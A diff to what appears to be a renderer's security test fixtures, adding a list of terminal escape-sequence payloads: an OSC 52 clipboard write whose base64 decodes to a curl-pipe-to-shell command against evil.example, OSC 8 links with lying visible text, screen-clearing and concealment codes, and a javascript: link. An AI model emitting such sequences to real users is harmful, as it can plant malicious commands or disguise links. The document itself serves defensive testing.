@@ -3,6 +3,7 @@
 - `REPRODUCERS`: inputs that broke earlier renderers (issue 9), exactly as reported.
 - `CLASSICS`: the usual XSS / resource-load / MathJax tricks. `PWN` stands for a payload that sets
   `window.__pwned = N` (so a browser can tell that it ran, and which one); `cases()` fills it in.
+- `TERMINAL`: answers holding terminal escape sequences (clipboard, links, clearing).
 - `IMAGE_CASES`: inputs with images the user did send (`allowed`), to check that allowing an
   image allows nothing else.
 - `cases(canary)`: all of the above as `Case`s. Remote URLs use `CANARY` (`https://evil.example`);
@@ -275,6 +276,19 @@ IMAGE_CASES: list[tuple[str, tuple[str, ...]]] = [
 ]
 
 
+# Terminal escape sequences in an answer (issue 20): OSC 52 writes the clipboard, OSC 8 makes a
+# link whose visible text lies, CSI clears or conceals, C1 controls do the same in 8 bits. In a
+# notebook they must stay inert text; in a terminal they are dropped (tests/test_key_forms.py).
+TERMINAL: list[str] = [
+    "copy this\x1b]52;c;Y3VybCBodHRwczovL2V2aWwuZXhhbXBsZS94IHwgc2g=\x07 done",
+    "\x1b]8;;https://evil.example/\x1b\\https://safe.example\x1b]8;;\x1b\\ click",
+    "\x1b[2J\x1b[Hscreen cleared \x1b[8mconcealed\x1b[0m",
+    "\x9b2J\x9d8;;https://evil.example/\x9chttps://safe.example\x9d8;;\x9c",
+    "```\n\x1b]52;c;cHduZWQ=\x07\n```\n`\x1b[31mred\x1b[0m`",
+    f"<span>\x1b]8;;javascript:{PWN}\x07x\x1b]8;;\x07</span>",
+]
+
+
 def _pwn(text: str, n: int) -> str:
     return text.replace(PWN, f"window.__pwned={n}")
 
@@ -298,6 +312,9 @@ def cases(canary: str = CANARY) -> list[Case]:
     for i, (text, allowed) in enumerate(IMAGE_CASES):
         n += 1
         out.append(Case(f"image-{i}", fill(_pwn(text, n)), tuple(fill(_pwn(a, n)) for a in allowed)))
+    for i, text in enumerate(TERMINAL):
+        n += 1
+        out.append(Case(f"terminal-{i}", fill(_pwn(text, n))))
     return out
 
 
